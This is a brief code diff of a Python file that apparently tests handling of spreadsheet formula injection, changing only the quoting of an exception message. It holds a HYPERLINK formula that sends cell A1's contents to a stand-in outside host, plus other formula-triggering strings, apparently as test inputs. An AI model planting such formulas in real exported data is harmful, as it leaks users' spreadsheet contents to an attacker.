@@ -9,7 +9,7 @@ FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
 
 
 def double(x):
-    raise type("=1+1", (ValueError,), {})(FORMULA + "\n+1\n-1\n@SUM(A1)\n\t=1\r=2,\"a\",=3")
+    raise type("=1+1", (ValueError,), {})(FORMULA + '\n+1\n-1\n@SUM(A1)\n\t=1\r=2,"a",=3')
 
 
 # %% mean
